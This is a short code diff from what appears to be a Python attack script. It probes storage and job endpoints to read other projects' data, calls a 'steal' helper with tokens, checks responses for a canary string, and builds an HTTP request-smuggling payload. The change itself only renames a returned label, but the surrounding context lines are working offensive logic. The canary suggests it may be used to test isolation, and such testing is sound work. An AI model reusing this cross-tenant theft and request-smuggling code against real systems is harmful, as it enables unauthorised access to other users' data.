@@ -528,7 +528,7 @@ def by_own_endpoint():
         return own
     line = json.dumps({"project": TARGET["other_project"], "job_uid": 1}).encode() + b"\n"
     ask_for = b"GET %s HTTP/1.1\r\nHost: x\r\n\r\n" % paths_of_others()[0].encode()
-    return CANARY.search(raw(ENDPOINT, line, ask_for)) and "an introduction"
+    return CANARY.search(raw(ENDPOINT, line, ask_for)) and "a preamble"
 
 
 def by_ports():
@@ -539,7 +539,7 @@ def by_ports():
         if result := steal(place, "") or steal(place, token):
             return f"{place}: {result}"
         if CANARY.search(raw(place, line, ask_for)):
-            return f"{place}: an introduction"
+            return f"{place}: a preamble"
         # Two requests where a careless gateway sees one.
         smuggled = (
             b"POST /storage/v1/b HTTP/1.1\r\nHost: x\r\n"
